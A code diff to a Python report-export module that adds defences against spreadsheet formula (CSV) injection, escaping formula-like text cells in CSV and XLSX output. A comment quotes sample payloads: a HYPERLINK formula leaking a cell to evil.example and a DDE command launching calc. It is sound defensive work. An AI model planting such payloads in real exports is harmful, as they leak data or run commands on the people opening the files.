@@ -180,6 +180,29 @@ def filters_table(filters, *, today) -> tuple[str, str, list[str], list[list]]:
     return "filters", _("Period and filters"), [_("Condition"), pgettext("of a condition", "Value")], rows
 
 
+# A cell a spreadsheet would read as a formula (OWASP "CSV injection"): a product name such as
+# =HYPERLINK("http://evil.example/?leak="&A1,"点击查看") must reach the supervisor as the text the
+# enterprise typed, never as a live formula or a DDE command (+cmd|' /C calc'!A0, @SUM(...)).
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def csv_safe(value):
+    """A text cell for CSV: a leading ' when it starts like a formula (spreadsheets hide it and
+    show the text); numbers and dates are written as they are."""
+    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
+        return "'" + value
+    return value
+
+
+def _xlsx_cell(ws, value, WriteOnlyCell):
+    """Every text cell as a string cell: openpyxl turns a str starting with "=" into a formula."""
+    if not isinstance(value, str):
+        return value
+    cell = WriteOnlyCell(ws, value=value)
+    cell.data_type = "s"
+    return cell
+
+
 def write_xlsx(all_tables, stream) -> None:
     wb = Workbook(write_only=True)
     bold = Font(bold=True)
@@ -197,18 +220,23 @@ def write_xlsx(all_tables, stream) -> None:
             header_cells.append(cell)
         ws.append(header_cells)
         for row in rows:
-            ws.append(list(row))
+            ws.append([_xlsx_cell(ws, v, WriteOnlyCell) for v in row])
     wb.save(stream)
 
 
 def write_csv(table, stream) -> None:
     """UTF-8 with a byte-order mark, so Excel opens the Chinese text correctly."""
-    _name, _title, headers, rows = table
     stream.write("\ufeff")
-    writer = csv.writer(stream)
-    writer.writerow([str(h) for h in headers])
+    csv.writer(stream).writerows(csv_cells(table))
+
+
+def csv_cells(table):
+    """The table's rows as CSV cells, the heading row first: the one place a CSV row is made
+    (the downloads, the streamed case list and ``kpi_report``)."""
+    _name, _title, headers, rows = table
+    yield [csv_safe(str(h)) for h in headers]
     for row in rows:
-        writer.writerow(["" if v is None else v for v in row])
+        yield ["" if v is None else csv_safe(v) for v in row]
 
 
 def csv_bytes(table) -> bytes:
